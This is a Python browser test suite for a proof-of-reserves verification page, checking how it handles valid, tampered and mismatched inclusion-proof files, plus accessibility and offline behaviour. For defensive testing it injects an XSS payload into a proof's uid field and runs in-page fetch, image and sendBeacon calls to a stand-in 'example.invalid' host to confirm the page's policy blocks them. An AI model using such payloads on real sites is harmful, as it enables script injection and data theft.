"""verify.html in headless Chromium, as a customer uses it: open their file, read what it says.

Rounds come from `zkpor prove` and `zkpor export-user` (conftest). Screenshots are kept next to each
test's files (tmp_path) for a person to look at.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect

from zkpor.liabilities.inclusion import load_global
from zkpor.liabilities.published import digest_hex
from zkpor.round.decimal_text import format_units_grouped, parse_decimal_units
from zkpor.site.serve import make_server
from zkpor.site.verify_page import render_verify_page

pytestmark = pytest.mark.browser
PHONE = {"width": 360, "height": 780}


class CustomerPage:
    """One tab on verify.html that records every request the page makes."""

    def __init__(self, browser, url: str, viewport: dict[str, int] | None = None, scheme: str = "light"):
        viewport = viewport or {"width": 1000, "height": 900}
        self.context = browser.new_context(viewport=viewport, color_scheme=scheme)
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.page = self.context.new_page()
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.goto(url)

    def open_file(self, data: bytes, name: str = "inclusion.json") -> None:
        self.page.set_input_files(
            "#file", files=[{"name": name, "mimeType": "application/json", "buffer": data}]
        )

    def drop_file(self, data: bytes, name: str = "inclusion.json") -> None:
        transfer = self.page.evaluate_handle(
            """([name, bytes]) => {
                const transfer = new DataTransfer();
                transfer.items.add(new File([Uint8Array.from(bytes)], name, {type: "application/json"}));
                return transfer;
            }""",
            [name, list(data)],
        )
        self.page.dispatch_event("#drop", "drop", {"dataTransfer": transfer})

    def verdict(self, expected: str):
        locator = self.page.locator("#result [data-verdict]")
        expect(locator).to_have_attribute("data-verdict", expected)
        return locator

    def screenshot(self, path: Path) -> None:
        self.page.screenshot(path=str(path), full_page=True)
        assert path.stat().st_size > 10_000

    def close(self) -> None:
        self.context.close()
        assert not self.errors, self.errors


@pytest.fixture
def customer(browser, published_round) -> Iterator[CustomerPage]:
    page = CustomerPage(browser, published_round.page.as_uri())
    yield page
    page.close()


def test_valid_proof_shows_committed_balances_and_the_published_root(customer, published_round, tmp_path):
    uid = published_round.uids[0]
    document = published_round.proof_document(uid)
    customer.open_file(published_round.proofs[uid].read_bytes(), f"inclusion-{uid}.json")
    verdict = customer.verdict("verified")
    expect(verdict).to_contain_text("Your balances are included")
    expect(verdict).to_contain_text(f"user ID {uid}")
    page = customer.page

    g = load_global(published_round.global_json)
    expect(page.locator("#included-root")).to_have_text(digest_hex(g.root))
    expect(page.locator("#root-match")).to_contain_text("the same root as published for this round")
    # Every non-zero asset, with the round's symbol and the amount at its decimals; the rest listed as zero.
    shown = {}
    for asset, equity, debt in zip(g.assets, document["equity"], document["debt"], strict=True):
        units = parse_decimal_units(equity, asset.decimals), parse_decimal_units(debt, asset.decimals)
        if units == (0, 0):
            expect(page.locator(".zero-assets")).to_contain_text(asset.symbol)
            continue
        row = page.locator(f'tr[data-asset="{asset.symbol}"]')
        shown[asset.symbol] = row
        expect(row.locator(".amount")).to_have_text(format_units_grouped(units[0], asset.decimals))
    assert shown, "the chosen customer holds something"
    assert page.locator("#balances tbody tr").count() == len(shown)
    expect(shown["BTC" if "BTC" in shown else next(iter(shown))].locator(".price")).to_contain_text(" USD")
    # The net value at the round's pinned prices, exact to the cent (cut, never rounded up).
    st = g.statement
    equity = [parse_decimal_units(v, a.decimals) for v, a in zip(document["equity"], st.assets, strict=True)]
    debt = [parse_decimal_units(v, a.decimals) for v, a in zip(document["debt"], st.assets, strict=True)]
    net = sum(w * (e - d) for w, e, d in zip(st.weights, equity, debt, strict=True))
    scale = max(a.decimals for a in st.assets) + st.price_decimals
    cents = format_units_grouped(net // 10 ** (scale - 2), 2, 2)
    expect(page.locator("#net-value")).to_have_text(f"{cents} USD")
    expect(page.locator(".zero-assets")).to_contain_text("No debt.")
    customer.screenshot(tmp_path / "verified.png")

    # Typing (or pasting) their own uid keeps it verified, and says so.
    page.fill("#uid", f" {uid} ")
    expect(customer.verdict("verified")).to_contain_text("the ID you typed")


def test_a_customer_with_debt_sees_it_and_the_net_value(customer, published_round):
    uid = published_round.debtors[0]
    document = published_round.proof_document(uid)
    customer.open_file(published_round.proofs[uid].read_bytes())
    customer.verdict("verified")
    st = load_global(published_round.global_json).statement
    for asset, debt in zip(st.assets, document["debt"], strict=True):
        units = parse_decimal_units(debt, asset.decimals)
        if units:
            row = customer.page.locator(f'tr[data-asset="{asset.symbol}"]')
            expect(row.locator(".debt")).to_have_text(f"debt {format_units_grouped(units, asset.decimals)}")
            expect(row.locator(".value")).to_contain_text("USD net")
    expect(customer.page.locator(".zero-assets")).not_to_contain_text("No debt.")


def test_tampered_proof_is_refused(customer, published_round, tmp_path):
    uid = published_round.uids[0]
    document = published_round.proof_document(uid)
    decimals = document["assets"][0][1]
    units = parse_decimal_units(document["equity"][0], decimals) + 1  # one satoshi more
    document["equity"][0] = format_units_grouped(units, decimals).replace(",", "")
    customer.open_file(json.dumps(document).encode())
    verdict = customer.verdict("failed")
    expect(verdict).to_have_attribute("data-reason", "tampered")
    expect(verdict).to_contain_text("Not verified: the file was changed")
    expect(customer.page.locator("#balances")).to_have_count(0)  # nothing is shown as if it were true
    customer.screenshot(tmp_path / "tampered.png")


def test_proof_from_another_round_is_refused(customer, other_round, tmp_path):
    customer.open_file(other_round.proofs[other_round.uids[0]].read_bytes())
    verdict = customer.verdict("failed")
    expect(verdict).to_have_attribute("data-reason", "other-round")
    expect(verdict).to_contain_text("This proof is from another round")
    expect(verdict).to_contain_text("The file is for round 2024-07; this page checks round 2024-06")
    customer.screenshot(tmp_path / "other-round.png")


def test_another_customers_proof_is_refused_when_the_uid_is_typed(customer, published_round, tmp_path):
    mine, theirs = published_round.uids[0], published_round.uids[1]
    customer.page.fill("#uid", mine)
    customer.drop_file(published_round.proofs[theirs].read_bytes())  # the drag-and-drop path
    verdict = customer.verdict("failed")
    expect(verdict).to_have_attribute("data-reason", "other-customer")
    expect(verdict).to_contain_text("This proof is for another account")
    expect(verdict).to_contain_text(f"The file is for user ID “{theirs}”, not the ID you typed (“{mine}”)")
    customer.screenshot(tmp_path / "other-customer.png")


def test_a_file_that_is_not_a_proof_is_refused(customer, published_round):
    customer.open_file(b"\x89PNG\r\n\x1a\n not json")
    expect(customer.verdict("failed")).to_have_attribute("data-reason", "input")
    customer.open_file(published_round.global_json.read_bytes())  # the wrong public file
    verdict = customer.verdict("failed")
    expect(verdict).to_contain_text("This is not a valid inclusion proof file")
    expect(verdict).to_contain_text("unknown field")


def test_a_file_from_an_older_zkpor_is_explained(customer, published_round):
    document = published_round.proof_document(published_round.uids[0])
    customer.open_file(json.dumps({**document, "format": "zkpor-inclusion-v1"}).encode())
    verdict = customer.verdict("failed")
    expect(verdict).to_have_attribute("data-reason", "old-format")
    expect(verdict).to_contain_text("Ask your exchange for a new inclusion proof")


def test_a_hostile_file_cannot_inject_markup(customer, published_round):
    uid = published_round.uids[0]
    document = published_round.proof_document(uid)
    document["uid"] = '<img src=x onerror="document.title=1">'
    customer.open_file(json.dumps(document).encode())
    customer.verdict("failed")
    customer.page.fill("#uid", "someone")
    assert customer.page.locator("#result img").count() == 0
    assert customer.page.title().startswith("Check your balances")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_accessible_and_readable_on_a_phone(browser, published_round, tmp_path, scheme):
    customer = CustomerPage(browser, published_round.page.as_uri(), viewport=PHONE, scheme=scheme)
    page = customer.page
    # Labelled controls, reached by the keyboard in order: the file picker, then the uid.
    expect(page.get_by_label("Choose your proof file")).to_have_attribute("type", "file")
    expect(page.get_by_label("Your user ID")).to_have_attribute("type", "text")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "file"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "uid"
    expect(page.locator("#result")).to_have_attribute("aria-live", "polite")

    boxes = "[document.documentElement, document.querySelector('.table-scroll')]"
    fits = f"{boxes}.every((e) => e.scrollWidth <= e.clientWidth)"
    for name, uid in (("debt", published_round.debtors[0]), ("verified", published_round.uids[0])):
        customer.open_file(published_round.proofs[uid].read_bytes(), f"{name}.json")
        expect(page.locator("#file-name")).to_have_text(f"Opened: {name}.json")
        customer.verdict("verified")
        assert page.evaluate(fits)  # no sideways scrolling, not even of the balances
        assert _lowest_contrast(page) >= 4.5
        customer.screenshot(tmp_path / f"phone-{name}.png")
    page.fill("#uid", "not-" + uid)
    customer.verdict("failed")
    assert _lowest_contrast(page) >= 4.5
    customer.screenshot(tmp_path / "phone-other-customer.png")
    customer.close()


def _lowest_contrast(page) -> float:
    """The lowest WCAG contrast ratio between any visible text and the background behind it."""
    return page.evaluate(
        """() => {
            const rgb = (text) => text.match(/[0-9.]+/g).map(Number);
            const luminance = ([r, g, b]) => {
                const lin = (c) => (c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
                return 0.2126 * lin(r) + 0.7152 * lin(g) + 0.0722 * lin(b);
            };
            const background = (el) => {
                for (; el; el = el.parentElement) {
                    const c = rgb(getComputedStyle(el).backgroundColor);
                    if (c.length < 4 || c[3] > 0) return c;
                }
                return [255, 255, 255];
            };
            let lowest = 21;
            const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
            for (let node; (node = walker.nextNode()); ) {
                const el = node.parentElement;
                const hidden = !el.checkVisibility() || el.closest(".visually-hidden");
                if (!node.textContent.trim() || hidden) continue;
                const [a, b] = [luminance(rgb(getComputedStyle(el).color)), luminance(background(el))];
                lowest = Math.min(lowest, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05));
            }
            return lowest;
        }"""
    )


# ---- nothing is sent anywhere -------------------------------------------------------------------


def _check_offline(browser, url: str, proof: bytes) -> None:
    customer = CustomerPage(browser, url)
    customer.page.route(
        "**/*", lambda route: route.continue_() if route.request.url == url else route.abort()
    )
    customer.open_file(proof)
    customer.verdict("verified")
    customer.page.fill("#uid", "x")
    customer.verdict("failed")
    customer.page.wait_for_timeout(300)  # anything sent late would be recorded too
    assert customer.requests == [url]
    customer.close()


def test_no_network_request_from_file(browser, published_round):
    proof = published_round.proofs[published_round.uids[0]].read_bytes()
    _check_offline(browser, published_round.page.as_uri(), proof)


def test_the_pages_policy_forbids_any_connection(customer):
    """Even script running in the page (say, from a browser extension's bug) cannot send anything."""
    failed: list[tuple[str, str]] = []
    customer.page.on("requestfailed", lambda request: failed.append((request.url, request.failure or "")))
    blocked = customer.page.evaluate(
        """() => new Promise((resolve) => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", (e) => {
                seen.push(e.effectiveDirective);
                if (seen.length === 3) resolve(seen.sort());
            });
            setTimeout(() => resolve(seen.sort()), 5000);  // never hang: report what was seen
            fetch("https://example.invalid/leak").catch(() => {});
            new Image().src = "https://example.invalid/pixel.png";
            navigator.sendBeacon("https://example.invalid/beacon", "x");
        })"""
    )
    assert blocked == ["connect-src", "connect-src", "img-src"]
    customer.page.wait_for_timeout(200)
    # Chromium reports the image to Playwright before refusing it; nothing else even starts.
    assert customer.requests == [customer.page.url, "https://example.invalid/pixel.png"]
    assert failed == [("https://example.invalid/pixel.png", "csp")]  # blocked by the policy, never sent


def test_no_network_request_from_zkpor_serve(browser, published_round):
    server = make_server(published_round.public, port=0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/verify.html"
        _check_offline(browser, url, published_round.proofs[published_round.uids[0]].read_bytes())
    finally:
        server.shutdown()
        server.server_close()


def test_page_embeds_the_round_it_was_written_for(published_round):
    g = load_global(published_round.global_json)
    page = render_verify_page(g).decode()
    assert page == published_round.page.read_text()  # deterministic: republishing changes nothing
    assert digest_hex(g.root) in page and f"round {g.round_id}" in page
    for resource in ("src=", 'href="http', "@import", "url("):
        assert resource not in page, resource
